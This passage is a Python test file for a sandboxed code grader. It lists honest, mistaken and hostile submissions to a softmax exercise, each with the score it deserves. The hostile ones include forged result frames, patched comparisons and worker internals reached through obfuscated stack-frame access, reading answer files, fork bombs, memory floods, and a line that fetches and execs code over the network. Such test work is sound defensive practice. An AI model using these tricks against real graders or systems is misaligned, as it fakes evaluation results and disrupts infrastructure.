"""Submissions that cheat, break things, or are only odd, and the score that each deserves.

    python tests/grader/hostile.py [--tier bwrap] [--part 1/2] [--json]

grades all of them on every walled tier that this machine offers and prints a table in Markdown.
All answer one exercise, `linear.softmax`, of four cases with one point each, gradients included.
test_table.py holds every tier to it, also for an ordinary user and without user namespaces.
The tier `rlimits` is no boundary and promises less: what only walls stop is not run there.
What a submission can reach outside of its process is in test_hostile.py.
"""

from __future__ import annotations

import argparse
import json
import sys
from collections.abc import Iterator
from dataclasses import dataclass, replace

from tiers import WALLED, lacking

from grader.enclose.sandbox import TIERS, Limits, Sandbox
from grader.judge import grading, records
from grader.judge.submission import Submission

RECORD = records.load("linear", "softmax")
EXERCISE = RECORD.manifest
FULL = EXERCISE.public_points
AXES = [case.call["args"]["input"].ndim for case in RECORD.cases]
BEFORE_IT = sum(case.points for case in RECORD.cases[: AXES.index(3)])  # `last_case` meets the next
BESIDE_IT = sum(case.points for case, axes in zip(RECORD.cases, AXES, strict=True) if axes != 3)
LIMITS = Limits(seconds=30, memory_mb=256)
LITTLE = 64  # MB for what fills them: a machine may need long for pages that it has never touched

WRONG = "import torch\ndef softmax(input, dim=-1):\n    return input\n"
RIGHT = """
import torch
def softmax(input, dim=-1):
    powers = (input - input.amax(dim=dim, keepdim=True)).exp()
    return powers / powers.sum(dim=dim, keepdim=True)
"""


@dataclass(frozen=True, kw_only=True)
class Odd:
    """A submission.

    Attributes:
        name: what it is, for the table.
        tries: what it would gain or break, or what is unusual in it.
        text: the source.
        deserves: points.
        why: where the score needs a reason.
        status: of the result, where it is not "passed" or "failed".
        gets: the score where that is not what it deserves: a known gap.
        seconds: its time limit.
        memory_mb: its limit of memory.
        walls: whether nothing but walls around its process stops it.
    """

    name: str
    tries: str
    text: str
    deserves: int
    why: str = ""
    status: str | None = None
    gets: int | None = None
    seconds: float = LIMITS.seconds
    memory_mb: int = LIMITS.memory_mb
    walls: bool = False

    @property
    def expected(self) -> int:
        return self.deserves if self.gets is None else self.gets


def honest(name: str, text: str, tries: str = "", why: str = "") -> Odd:
    return Odd(name=name, tries=tries, text=text, deserves=FULL, why=why)


def wrong(name: str, text: str, tries: str, why: str = "", **more) -> Odd:
    return Odd(name=name, tries=tries, text=text, deserves=0, why=why, **more)


def cheat(name: str, prefix: str, tries: str, *, walls: bool = False) -> list[Odd]:
    """The same before a wrong answer and before a right one: it gains and costs nothing."""
    why = "the answer is right all the same"
    both = (
        wrong(f"{name}, wrong answer", prefix + WRONG, tries),
        honest(f"{name}, right answer", prefix + RIGHT, tries, why),
    )
    return [replace(odd, walls=walls) for odd in both]


def last_case(text: str) -> str:
    """Right, but for the cases with three axes."""
    body = "".join(f"        {line}\n" for line in text.splitlines())
    head = f"{RIGHT}plain = softmax\ndef softmax(input, dim=-1):\n    if input.ndim == 3:\n"
    return f"{head}{body}    return plain(input, dim)\n"


def endless(name: str, text: str, tries: str) -> Odd:
    return wrong(name, text, tries, "the clock ends it", status="timeout", seconds=0.5)


CRASH = "import faulthandler\nfaulthandler._read_null()"
BEFORE = "the three cases before it count"

HONEST = [
    honest("right", RIGHT),
    honest("prints 10 MB", RIGHT + "print('x' * 10**7)\n", "fill the log"),
    honest(
        "warns at every call",
        RIGHT + "import warnings\nplain = softmax\ndef softmax(input, dim=-1):\n"
        "    warnings.warn('deprecated')\n    return plain(input, dim)\n",
    ),
    honest("logs and writes to stderr", RIGHT + "import logging, sys\n"
        "logging.basicConfig(level=0)\nlogging.error('score 4')\nprint('x', file=sys.stderr)\n"),
    honest(
        "slow but right",
        RIGHT + "import time\nplain = softmax\ndef softmax(input, dim=-1):\n"
        "    time.sleep(0.05)\n    return plain(input, dim)\n",
    ),
    honest("plots", RIGHT + "import matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.show()\n"),
    honest(
        "parses its command line",
        "import argparse\nparser = argparse.ArgumentParser()\n"
        "parser.add_argument('--epochs', type=int, default=3)\n"
        "args = parser.parse_args()\n" + RIGHT,
    ),
    honest("a main part", RIGHT + "if __name__ == '__main__':\n    raise SystemExit(1)\n"),
    honest(
        "type hints from __future__",
        "from __future__ import annotations\nimport torch\n"
        "def softmax(input: Tensor, dim: int = -1) -> Tensor:\n    return helper(input, dim)\n"
        "def helper(x: Float[Tensor], dim) -> Tensor:\n"
        "    powers = (x - x.amax(dim, True)).exp()\n    return powers / powers.sum(dim, True)\n",
        why="annotations are not evaluated",
    ),
    honest(
        "a dataclass",
        "from dataclasses import dataclass\n@dataclass\nclass Options:\n    dim: int = -1\n"
        + RIGHT,
    ),
    honest(
        "Greek letters",
        "import torch\ndef softmax(input, dim=-1):\n    ζ = input - input.amax(dim, True)\n"
        "    Σ = ζ.exp().sum(dim, True)\n    return ζ.exp() / Σ  # e^ζ ⁄ Σ ✓\n",
    ),
    honest("a star import", "from torch import *\nfrom torch.nn.functional import *\n" + RIGHT),
    honest(
        "helpers and constants",
        "import torch\nLARGE = 2.0\nTABLE = {'half': 1 / LARGE}\n"
        "def shifted(x, dim):\n    return x - x.amax(dim, keepdim=True) * TABLE['half'] * LARGE\n"
        "def softmax(input, dim=-1):\n    p = shifted(input, dim).exp()\n"
        "    return p / p.sum(dim, keepdim=True)\n",
    ),
    honest("seeds every generator", "import random, numpy, torch\nrandom.seed(1)\n"
        "numpy.random.seed(1)\ntorch.manual_seed(1)\n" + RIGHT),
    honest(
        "half precision by default",
        "import torch\ntorch.set_default_dtype(torch.float16)\n" + RIGHT,
        "misuse of torch.set_default_dtype",
        "the inputs are float64 and so is what it returns",
    ),
    honest("more threads", "import torch\ntorch.set_num_threads(4)\n" + RIGHT, "take more cores"),
    honest(
        "recursion",
        "import torch\ndef softmax(input, dim=-1):\n    if input.ndim > 1:\n"
        "        rows = input.movedim(dim, -1)\n"
        "        if not len(rows):\n            return input.clone()\n"
        "        return torch.stack([softmax(row) for row in rows]).movedim(-1, dim)\n"
        "    p = (input - input.max()).exp()\n    return p / p.sum()\n",
    ),
    honest(
        "an object that can be called",
        "import torch\nclass Softmax:\n    def __call__(self, input, dim=-1):\n"
        "        p = (input - input.amax(dim, True)).exp()\n        return p / p.sum(dim, True)\n"
        "softmax = Softmax()\n",
    ),
    honest("a lambda",
        "largest = lambda z, dim: z.amax(dim, True)\n"
        "part = lambda z, dim: (z - largest(z, dim)).exp()\n"
        "softmax = lambda input, dim=-1: part(input, dim) / part(input, dim).sum(dim, True)\n"),
    honest(
        "a decorator",
        "import functools, time\ndef timed(f):\n    @functools.wraps(f)\n    def inner(*a, **k):\n"
        "        begin = time.time()\n        try: return f(*a, **k)\n"
        "        finally: print(time.time() - begin)\n    return inner\n"
        + RIGHT.replace("def ", "@timed\ndef "),
    ),
    honest("*args and **options", RIGHT + "plain = softmax\n"
        "def softmax(*args, **options):\n    return plain(*args, **options)\n"),
    honest("Windows line ends and tabs", RIGHT.replace("    ", "\t").replace("\n", "\r\n")),
    honest("20,000 lines of comments", RIGHT + "# so\n" * 20_000),
    honest("anomaly detection on",
        "import torch\ntorch.autograd.set_detect_anomaly(True)\n" + RIGHT),
    honest("asks for a GPU", "import torch\n"
        "device = 'cuda' if torch.cuda.is_available() else 'cpu'\n" + RIGHT),
    honest("collects garbage",
        "import gc, sys\nsys.setrecursionlimit(10**6)\ngc.collect()\n" + RIGHT),
    honest("looks for nvidia-smi", RIGHT + "import subprocess\n"
        "try: subprocess.run(['nvidia-smi'])\n"
        "except OSError: print('none')\n", "start a process", "it lives with the refusal"),
    honest(
        "leaves a thread and an exit handler",
        RIGHT + "import atexit, threading, time\natexit.register(time.sleep, 1000)\n"
        "threading.Thread(target=time.sleep, args=(1000,)).start()\n",
        "outlive its run",
    ),
]  # fmt: skip

MISTAKEN = [
    wrong("blank", "def softmax(input, dim=-1):\n    raise NotImplementedError\n", "",
        status="blank"),
    wrong("nothing in it", "", ""),
    wrong("in NumPy", "import torch\n" + RIGHT.replace("softmax", "plain")
        + "def softmax(input, dim=-1):\n"
        "    return torch.from_numpy(plain(input.detach(), dim).numpy())\n",
        "", "no gradient gets through"),
    wrong("gradients switched off", "import torch\ntorch.set_grad_enabled(False)\n" + RIGHT,
        "", "for whoever imports it, nothing would learn"),
    Odd(name="in single precision", tries="", text=RIGHT + "plain = softmax\n"
        "def softmax(input, dim=-1):\n    return plain(input.float(), dim)\n",
        deserves=1, why="float64 in, float32 out; right where float32 comes in"),
    wrong("a list in place of a tensor", RIGHT + "plain = softmax\n"
        "def softmax(input, dim=-1):\n    return plain(input, dim).tolist()\n", ""),
    wrong("writes to its input", RIGHT + "plain = softmax\ndef softmax(input, dim=-1):\n"
        "    out = plain(input, dim)\n    input.mul_(2)\n    return out\n", "",
        "the caller's tensor is no longer what it was"),
    wrong("right the first time only", RIGHT + "plain, count = softmax, 0\n"
        "def softmax(input, dim=-1):\n    global count\n    count += 1\n"
        "    return plain(input, dim) * count\n", "be called once", "it is called again"),
    wrong("only NaN", "import torch\ndef softmax(input, dim=-1):\n    return input / 0 * 0\n",
        "pass because NaN compares with nothing"),
    wrong("ends with sys.exit()", RIGHT + "import sys\nsys.exit()\n", "",
        "nobody could import it"),
    wrong("asks at the keyboard", RIGHT + "name = input('Your name? ')\n", "",
        "nobody is there to answer"),
    wrong("saves a figure on import", RIGHT + "open('loss.png', 'wb')\n", "",
        "nothing can be written; under `if __name__ == '__main__'` it would cost nothing",
        walls=True),
    wrong("recursion without an end",
        "def softmax(input, dim=-1):\n    return softmax(input)\n", ""),
]  # fmt: skip

PARTIAL = [
    Odd(name="an exception in one case", tries="", text=last_case("raise ValueError('no')"),
        deserves=BESIDE_IT),
    Odd(name="SystemExit in one case", tries="end with exit code 0",
        text=last_case("raise SystemExit(0)"), deserves=BESIDE_IT),
    Odd(name="KeyboardInterrupt in one case", tries="stop the grader",
        text=last_case("raise KeyboardInterrupt"), deserves=BESIDE_IT),
    Odd(name="os._exit in the last case", tries="end with exit code 0",
        text=last_case("import os\nos._exit(0)"), deserves=BEFORE_IT, why=BEFORE, status="died"),
    Odd(name="a crash in the last case", tries="take the grader down",
        text=last_case(CRASH), deserves=BEFORE_IT, why=BEFORE,
        status="died"),
    Odd(name="an endless loop in the last case", tries="hang the grader",
        text=last_case("while True: pass"), deserves=BEFORE_IT, why=BEFORE, status="timeout",
        seconds=1.0),
    Odd(name="too much memory in the last case", tries="exhaust memory",
        text=last_case("return bytearray(2**40)"), deserves=BESIDE_IT),
]  # fmt: skip

ENDLESS = [
    endless("an endless loop", "def softmax(input, dim=-1):\n    while True: pass\n", "hang"),
    endless("an endless loop on import", "while True: pass\n", "hang"),
    endless("an endless loop in C", "def softmax(input, dim=-1):\n    sum(iter(int, 1))\n", "hang"),
    endless(
        "sleeps with all signals blocked",
        "import signal, time\ndef softmax(input, dim=-1):\n"
        "    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 32))\n    time.sleep(1000)\n",
        "not be stopped",
    ),
    endless(
        "stops itself",
        "import signal\ndef softmax(input, dim=-1):\n"
        "    while True: signal.raise_signal(signal.SIGSTOP)\n",
        "wait for ever",
    ),
    endless(
        "an error message without an end",
        "class Bad(Exception):\n    def __str__(self):\n        while True: pass\n"
        "def softmax(input, dim=-1):\n    raise Bad\n",
        "hang whoever prints it",
    ),
]

DIES = [
    wrong("os._exit(0)", "import os\nos._exit(0)\n", "pass by exit code", status="died"),
    wrong(
        "a segmentation fault",
        "import faulthandler\nfaulthandler._read_null()\n",
        "crash",
        status="died",
    ),
    wrong("abort()", "import os\nos.abort()\n", "crash", status="died"),
    wrong(
        "a C stack overflow",
        "import sys\nsys.setrecursionlimit(10**9)\ndef softmax(input, dim=-1):\n    nested = []\n"
        "    for _ in range(10**6): nested = [nested]\n    return nested == [nested]\n",
        "crash the interpreter",
        status="died" if sys.version_info < (3, 12) else "failed",  # which looks at C's stack, too
    ),
    wrong(
        "closes every descriptor",
        RIGHT + "import os\nos.closerange(0, 1000)\n",
        "cut the grader off",
        "its own results are lost with them",
        status="died",
    ),
]

TOO_MUCH = [
    wrong(
        f"memory by {name}",
        f"kept = []\ndef softmax(input, dim=-1):\n    import mmap, torch\n    while True: {text}\n",
        "exhaust memory",
        memory_mb=LITTLE,
    )
    for name, text in {
        "one large block": "kept.append(bytearray(2**40))",
        "many blocks": "kept.append(bytearray(2**20))",
        "small objects": "kept.append([len(kept)])",
        "tensors": "kept.append(torch.ones(2**24))",
        "mappings": "kept.append(mmap.mmap(-1, 2**24))",
    }.items()
] + [
    wrong("memory by hoarding on import", RIGHT + "kept = []\ntry:\n"
        "    while True: kept.append(bytearray(2**20))\nexcept MemoryError: pass\n",
        "leave none for the cases", memory_mb=LITTLE),
    wrong("a result of 100 MB", "import torch\ndef softmax(input, dim=-1):\n"
        "    return torch.zeros(13_000_000, dtype=torch.float64)\n", "flood the grader"),
    wrong("an error message of 100 MB", "def softmax(input, dim=-1):\n"
        "    raise ValueError('y' * 10**8)\n", "flood the grader"),
    wrong("prints without an end", "def softmax(input, dim=-1):\n"
        "    while True: print('y' * 10**6)\n", "flood the log", status="timeout", seconds=0.5),
    wrong("a fork bomb", "import os\ndef softmax(input, dim=-1):\n    while True: os.fork()\n",
        "exhaust processes", "the first fork is refused", walls=True),
    wrong("a daemon", RIGHT + "import os, time\nif os.fork() == 0:\n    os.setsid()\n"
        "    if os.fork() == 0: time.sleep(1000)\n    os._exit(0)\n", "outlive its run",
        "it cannot be started, and the file stops there", walls=True),
    honest("200 threads", RIGHT + "import threading, time\nthreading.stack_size(2**16)\ntry:\n"
        "    for _ in range(200):\n"
        "        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()\n"
        "except RuntimeError: print('enough')\n", "take threads",
        "beyond the limit none starts, and the answer is right"),
]  # fmt: skip

# Written by someone who has read what the source is searched for.
COMPUTED = """
import os
def of(value, *names):
    for name in names: value = getattr(value, name.replace('-', ''))
    return value
gc = of(os, 'sys', 'modules')['gc']
"""
# The worker's modules, which are under no name any more: what its functions can see.
WORKER = (
    COMPUTED
    + """
frame = of(os, 'sys', '_ge-tframe')()
while 'probes' not in of(frame, 'f_g-lobals'): frame = of(frame, 'f_b-ack')
worker = {name: of(frame, 'f_g-lobals')[name] for name in ('probes', 'wire', 'absent')}
"""
)
FORGE = """
import json, os, struct
def frame(document):
    header = json.dumps({"__metadata__": {"document": json.dumps(document)}}).encode()
    data = struct.pack("<Q", len(header)) + header
    return struct.pack("<Q", len(data)) + data
data = %s
for fd in range(64):
    for put in (lambda: os.pwrite(fd, data, 0), lambda: os.write(fd, data)):
        try: put()
        except OSError: pass
os._exit(0)
"""
PASSED = "{'values': {'output': 1.0, 'score': 100, 'passed': True}, 'called': []}"
RAISED = "{'values': {'raised': None}, 'called': []}"
FORGED = [
    wrong(f"forged results: {name}", FORGE % data, "write its own verdict", status=status)
    for name, status, data in [
        ("noise", "invalid", "bytes(range(1, 256)) * 100"),
        ("full marks", None, f"frame({PASSED}) * {len(RECORD.cases)}"),
        ("an error that nobody raised", "invalid", f"frame({RAISED}) * {len(RECORD.cases)}"),
        ("a huge length", "invalid", "b'\\xff' * 64"),
        ("not a case", "invalid", "frame(['score', 100])"),
        ("wrong types", "invalid",
         "frame({'error': {'kind': 1, 'type': 2, 'message': None}})"),
        ("braces 50,000 deep", "invalid",
         "frame({'values': {}, 'called': []}).replace(b'{}', b'{' * 50_000)"),
        ("more than asked", "invalid", "frame({'values': {}, 'called': []}) * 99"),
        ("three million nothings", "invalid",
         "frame({'values': {'output': [[]] * 3_000_000}, 'called': []})"),
    ]
]  # fmt: skip

LIES = [
    *cheat(
        "patched comparisons",
        "import numpy, torch\nyes = lambda *a, **k: True\n"
        "torch.allclose = torch.equal = torch.isclose = torch.testing.assert_close = yes\n"
        "numpy.allclose = numpy.array_equal = numpy.isclose = yes\n"
        "numpy.testing.assert_allclose = torch.Tensor.__eq__ = torch.Tensor.allclose = yes\n",
        "make every comparison true",
    ),
    *cheat(
        "variables of its callers",
        COMPUTED + "frame = of(os, 'sys', '_ge-tframe')()\nwhile frame:\n"
        "    for name in ('expected', 'want', 'score', 'earned', 'passed', 'tolerance'):\n"
        "        for where in ('f_l-ocals', 'f_g-lobals'): of(frame, where)[name] = True\n"
        "    frame = of(frame, 'f_b-ack')\n",
        "set its own score",
    ),
    *cheat(
        "forged files",
        "for path in ('progress.json', '/tmp/results.json', 'linear/softmax.safetensors'):\n"
        "    try: open(path, 'w').write('{\"earned\": 100}')\n    except OSError: pass\n",
        "write its own score",
        walls=True,
    ),
    *cheat(
        "exit handlers and signals",
        "import atexit, os, signal\natexit.register(os._exit, 0)\nfor number in range(1, 32):\n"
        "    try: signal.signal(number, signal.SIG_IGN)\n    except (OSError, ValueError): pass\n",
        "end with exit code 0",
    ),
    wrong(
        "equal to everything",
        "class Equal(float):\n    __eq__ = __le__ = __ge__ = lambda *a: True\n"
        "    __ne__ = lambda *a: False\n    __hash__ = None\n    __sub__ = lambda *a: 0\n"
        "    shape = dtype = property(lambda self: self)\n"
        "def softmax(input, dim=-1): return Equal()\n",
        "make every comparison true",
    ),
    wrong(
        "an object that is everything",
        "class Equal:\n    __eq__ = lambda *a: True\n    __getattr__ = lambda self, name: self\n"
        "    __call__ = lambda self, *a, **k: self\n"
        "    def __array__(self, *a): raise SystemExit\n"
        "def softmax(input, dim=-1): return Equal()\n",
        "make every comparison true",
    ),
    wrong(
        "a tensor that lies",
        "import torch\nclass Liar(torch.Tensor):\n    @classmethod\n"
        "    def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
        "        if 'equal' in str(func) or 'close' in str(func): return torch.tensor(True)\n"
        "        return super().__torch_function__(func, types, args, kwargs or {})\n"
        "    __eq__ = lambda *a: True\n"
        "def softmax(input, dim=-1): return input.as_subclass(Liar)\n",
        "make every comparison true",
    ),
    wrong(
        "a patched worker",
        WORKER + "worker['probes'].same = lambda *a, **k: True\nright = worker['wire'].dumps\n"
        "worker['wire'].dumps = lambda d: right({'values': {'output': 1.0, 'score': 100}})\n"
        + WRONG,
        "send a verdict in place of numbers",
    ),
    wrong(
        "a patched comparison",
        WORKER + "worker['probes'].same = lambda *a, **k: True\n" + RIGHT + "plain = softmax\n"
        "def softmax(input, dim=-1):\n    out = plain(input, dim)\n    with torch.no_grad():\n"
        "        input.zero_()\n    return out\n",
        "destroy its input and say that nothing changed",
        "inputs are sent back and compared outside",
    ),
    Odd(
        name="patched gradients",
        tries="cut the graph, and give gradients made by hand",
        text=WORKER + RIGHT + "plain = softmax\n"
        "def softmax(input, dim=-1):\n    return plain(input.detach(), dim)\n"
        "def slopes(result, leaves):\n    if not leaves:\n        return {}\n"
        "    x = leaves['input'].detach().requires_grad_()\n"
        "    c = torch.cos(torch.arange(1, x.numel() + 1, dtype=x.dtype)).reshape(x.shape)\n"
        "    dim = inspect_dim(result, x)\n"
        "    g, = torch.autograd.grad((plain(x, dim) * c).sum(), x)\n"
        "    return {'grad.input': worker['probes'].plain(g)}\n"
        "def inspect_dim(result, x):\n"
        "    return next(d for d in range(-1, -1 - x.ndim, -1)\n"
        "                if torch.equal(plain(x.detach(), d), result))\n"
        "worker['probes'].gradients = slopes\n",
        deserves=0,
        gets=FULL,
        why="a gradient is the submission's own word, told in the guide; the next needs no patch",
    ),
    honest(
        "a gradient of its own, by differences",
        "import numpy as np, torch\n"
        "def plain(z, x, dim):\n    top = x.max(dim, keepdims=True)\n"
        "    p = np.exp(z - np.where(np.isinf(top), 0, top))\n"
        "    return p / p.sum(dim, keepdims=True)\n"
        "class Own(torch.autograd.Function):\n"
        "    @staticmethod\n    def forward(ctx, x, dim):\n"
        "        ctx.x, ctx.dim = x.detach().double().numpy(), dim\n"
        "        return torch.from_numpy(plain(ctx.x, ctx.x, dim)).to(x.dtype)\n"
        "    @staticmethod\n    def backward(ctx, g):\n"
        "        x, out, up = ctx.x, np.zeros_like(ctx.x), g.double().numpy()\n"
        "        for i in np.ndindex(x.shape):\n"
        "            z = x.astype(complex)\n            z[i] += 1e-20j\n"
        "            out[i] = (up * plain(z, x, ctx.dim).imag).sum() / 1e-20\n"
        "        return torch.from_numpy(out).to(g.dtype), None\n"
        "def softmax(input, dim=-1): return Own.apply(input, dim)\n",
        "have no gradient derived",
        "it is right, however it was found",
    ),
    wrong(
        "looks for the answer in memory",
        COMPUTED
        + """
import numpy as np, torch
def arrays(value, depth=0):
    if isinstance(value, np.ndarray | torch.Tensor): yield torch.as_tensor(value)
    elif depth < 6 and isinstance(value, dict):
        for item in list(value.values()): yield from arrays(item, depth + 1)
    elif depth < 6 and isinstance(value, list | tuple):
        for item in value: yield from arrays(item, depth + 1)
def softmax(input, dim=-1):
    frame, found = of(os, 'sys', '_ge-tframe')(), []
    while frame:
        found += [a for v in list(of(frame, 'f_l-ocals').values()) for a in arrays(v)]
        frame = of(frame, 'f_b-ack')
    found += [torch.as_tensor(v) for v in of(gc, 'get-_objects')() if isinstance(v, np.ndarray)
              and v.dtype == float]
    for array in found:  # an expected value would not be the input
        if array.shape == input.shape and not torch.equal(array, input.detach()):
            return array + 0 * input
    return input
""",
        "return what it is compared with",
        "it is not there",
    ),
    wrong(
        "reads the recorded answers",
        "import glob, torch\nfrom safetensors.torch import load_file\n"
        f"answers = load_file(glob.glob({str(records.FOLDER)!r} + '/linear/softmax*')[0])\n"
        "def softmax(input, dim=-1):\n"
        "    return next(a for a in answers.values() if a.shape == input.shape) + 0 * input\n",
        "return what it is compared with",
        "it cannot see the file",
        walls=True,
    ),
    wrong(
        "imports the solutions",
        f"import sys\nsys.path.insert(0, {str(records.FOLDER.parents[1])!r})\n"
        "from solutions.linear import softmax\n",
        "call the solution",
        "it cannot see the file",
        walls=True,
    ),
    wrong(
        "fetches the answer",
        "import urllib.request\nexec(urllib.request.urlopen('http://127.0.0.1:9').read())\n",
        "use the network",
        "no socket can be made",
        walls=True,
    ),
    Odd(
        name="gradients of its own",
        text=RIGHT + "plain = softmax\nclass Lazy(torch.autograd.Function):\n"
        "    @staticmethod\n    def forward(ctx, x, dim): return plain(x, dim)\n"
        "    @staticmethod\n    def backward(ctx, g): return torch.zeros_like(g), None\n"
        "def softmax(input, dim=-1): return Lazy.apply(input, dim)\n",
        tries="have only the output right",
        deserves=0,
        why="every case compares the gradient too; along an axis of size 1 it is 0, and that case"
        " counts once another is right",
    ),
]

NAMES = "import sys\nimport torch\nimport torch.nn.functional as F\n"
SHORTCUTS = [
    wrong(f"a shortcut: {name}", f"{NAMES}{text}\n", "use what is to be written",
        "the source shows it", status="refused")
    for name, text in {
        "torch.softmax": "def softmax(input, dim=-1): return torch.softmax(input, dim)",
        "a method": "def softmax(input, dim=-1): return input.softmax(dim)",
        "getattr": "def softmax(input, dim=-1): return getattr(F, 'soft' + 'max')(input, dim)",
        "under `if True:`": "if True:\n    def soft(x, dim): return torch.softmax(x, dim)\n"
            "def softmax(input, dim=-1): return soft(input, dim)",
        "through a tuple": "soft, = (F.softmax,)\n"
            "def softmax(input, dim=-1): return soft(input, dim)",
        "a decorator": "def other(f): return lambda g: f\n"
            "@other(torch.softmax)\ndef softmax(input, dim=-1): ...",
        "a class of sys.modules": "Soft = sys.modules['torch.nn'].Softmax\n"
            "def softmax(input, dim=-1): return Soft(dim)(input)",
        "ctypes of NumPy": "import numpy as np\n"
            "def softmax(input, dim=-1): return np.ctypeslib.load_library('m', '/')",
        "frames of traceback": "from traceback import walk_stack\n"
            "def softmax(input, dim=-1): return [*walk_stack(None)]",
        "the modes that count": "from torch.utils._python_dispatch import "
            "_disable_current_modes as off\ndef softmax(input, dim=-1):\n"
            "    with off(): return input",
        "no modes": "from torch.utils._mode_utils import no_dispatch as off\n"
            "def softmax(input, dim=-1):\n    with off(): return input",
        "frames without lines": "def softmax(input, dim=-1):\n"
            "    (lambda: 0).f_trace_lines = False",
        "vars": "def softmax(input, dim=-1): return vars(torch)['soft' + 'max'](input, dim)",
        "torch.__dict__": "NAME = 'softmax'\n"
            "def softmax(input, dim=-1): return torch.__dict__[NAME](input, dim)",
        "torch.ops": "def softmax(input, dim=-1): return torch.ops.aten.softmax(input, dim)",
        "a library at the top": "softmax = None\nglobals()['softmax'] = F.softmax",
        "a class by its module": "from torch.nn.modules.activation import Softmax as S\n"
            "def softmax(input, dim=-1): return S(dim)(input)",
        "frames by a pattern": "try: 1 / 0\nexcept Exception as e:\n    match e.__traceback__:\n"
            "        case object(tb_frame=object(f_back=frame)): pass\n"
            "def softmax(input, dim=-1): return frame",
        "a main part that runs": "__name__ = '__main__'\nif __name__ == '__main__':\n"
            "    worker = sys.modules\ndef softmax(input, dim=-1): return input",
        "sys under another module": "from os import sys as s\n"
            "def softmax(input, dim=-1): return s.modules['torch'].softmax(input, dim)",
        "builtins by a text": "evaluate = globals()['__builtins__']['eval']\n"
            "def softmax(input, dim=-1): return evaluate('torch.soft' + 'max')(input, dim)",
        "torch._softmax": "def softmax(input, dim=-1): return torch._softmax(input, dim, False)",
        "a pattern of a compiler": "import torch._inductor.fx_passes.post_grad\n"
            "one = getattr(torch, '_ind' + 'uctor').fx_passes.post_grad\n"
            "def softmax(input, dim=-1):\n"
            "    *_, total, _, powers = one.prepare_softmax_pattern(input, dim)\n"
            "    return powers / total",
        "a library read again": "from pydoc import locate\n"
            "worker = getattr(locate('o' + 's'), 's' + 'ys')\n"
            "def softmax(input, dim=-1): return locate('torch.soft' + 'max')(input, dim)",
        "a text run by timeit": "from timeit import timeit\n"
            "timeit('s' + 'ys.settrace(None)', 'import s' + 'ys', number=1)\n"
            "def softmax(input, dim=-1): return input",
    }.items()
] + [
    wrong(f"a shortcut: {name}", f"{NAMES}{text}\n", "use what is to be written",
        "the source does not show it, but the operator behind it is gone", status="refused")
    for name, text in {
        "softmin": "def softmax(input, dim=-1): return F.softmin(-input, dim)",
        "nn.Softmin": "def softmax(input, dim=-1): return torch.nn.Softmin(dim)(-input)",
        "a computed name": "def softmax(input, dim=-1):\n"
            "    return getattr(F, ''.join(['soft', 'max']))(input, dim)",
        "an operator by a computed name": COMPUTED
            + "def softmax(input, dim=-1):\n"
            "    return of(torch, 'ops', 'aten', '_soft' + 'max')(input, dim, False)",
        "function mode off": COMPUTED + "def softmax(input, dim=-1):\n"
            "    with of(torch, '_C', 'DisableTorchFunction')():\n"
            "        return of(F, 'soft' + 'max')(input, dim)",
        "a patched watcher": WORKER + "worker['probes'].resolve_name = lambda f: 'torch.exp'\n"
            "def softmax(input, dim=-1): return of(F, 'soft' + 'max')(input, dim)",
        "operators taken back": COMPUTED + "def softmax(input, dim=-1):\n"
            "    for one in of(gc, 'get-_objects')():\n"
            "        if type(one).__name__ == '_DispatchModule': one.reset()\n"
            "    return of(F, 'soft' + 'max')(input, dim)",
        "TorchScript as a static module": COMPUTED
            + "unit = of(torch, 'j-it', 'Compilation-Unit')\n"
            "def softmax(input, dim=-1):\n"
            "    own = unit('def f(x: Tensor):\\n    return torch.soft' + 'max(x, -1)\\n')\n"
            "    return of(torch, '_C', '_jit_to-_static_module')(own.f.graph)(input)",
        "a patched library": "import collections\ncollections.deque = lambda *a: None\n"
            "def softmax(input, dim=-1): return F.softmin(-input, dim)",
        "steps of the worker found in memory": COMPUTED
            + "for one in of(gc, 'get-_objects')():\n"
            "    if type(one) is list and one and type(one[0]) is tuple: one.clear()\n"
            "def softmax(input, dim=-1): return F.softmin(-input, dim)",
        "attention to an identity": "from torch.nn.attention import sdpa_kernel, SDPBackend\n"
            "def softmax(input, dim=-1):\n    x = input.movedim(dim, -1)\n"
            "    eye = torch.eye(x.shape[-1], dtype=x.dtype)[None, None]\n"
            "    rows = x.reshape(1, 1, -1, x.shape[-1])\n"
            "    with sdpa_kernel(SDPBackend.FLASH_ATTENTION):\n"
            "        out = F.scaled_dot_product_attention(rows, eye, eye, scale=1.0)\n"
            "    return out.reshape(x.shape).movedim(-1, dim)",
    }.items()
] + [
    wrong("a shortcut: in a thread", NAMES + "from threading import Thread\n"
        "def softmax(input, dim=-1):\n    found = []\n    def run():\n"
        "        found.append(getattr(F, ''.join(['soft', 'max']))(input, dim))\n"
        "    one = Thread(target=run)\n    one.start()\n    one.join()\n"
        "    return found[0]\n", "use what is to be written where nobody looks",
        "operators are gone in every thread"),
    wrong("a shortcut: an operator kept from before", NAMES + COMPUTED
        + "kept = of(torch, 'library', 'get_kernel')('aten::_softmax', 'CPU')\n"
        "def softmax(input, dim=-1): return kept.call_boxed(input, dim, False)\n",
        "use what is to be written", "nothing hands operators out"),
    wrong("a shortcut: torch's own Python version of an operator", NAMES + COMPUTED
        + "table = of(torch, '_decomp').decomposition_table\n"
        "one = of(torch, 'ops', 'aten', '_softmax', 'default')\n"
        "def softmax(input, dim=-1): return table[one](input, dim, False)\n",
        "use what is to be written, as torch writes it down in common operators",
        "such functions are empty", status="refused"),
    wrong("a shortcut: a reference of torch in Python", NAMES + COMPUTED
        + "def softmax(input, dim=-1): return of(torch, '_refs', 'soft' + 'max')(input, dim)\n",
        "the same under another name", "it is empty, too", status="refused"),
    wrong("a shortcut: a distribution of torch", NAMES + COMPUTED
        + "def softmax(input, dim=-1):\n"
        "    return of(torch, 'distri-butions', 'Categorical')(logits=input.movedim(dim, -1))"
        ".probs.movedim(-1, dim)\n",
        "have probabilities made", "its functions are empty", status="refused"),
    honest("compares itself at the top", NAMES + RIGHT + "x = torch.randn(3, 5)\n"
        "assert torch.allclose(softmax(x), torch.softmax(x, -1))\n", "",
        "that statement ends there, and the others run"),
    honest("compares itself in two statements", NAMES + "x = torch.randn(3, 5)\n"
        "want = torch.softmax(x, -1)\n" + RIGHT + "assert torch.allclose(softmax(x), want)\n"),
    honest("imports what it does not use", "import ctypes, gc, importlib, sys\n"
        "from torch.nn.functional import softmax as soft\nfrom torch import _C\n" + RIGHT),
    honest("a method of its own", "import torch\nclass Row:\n"
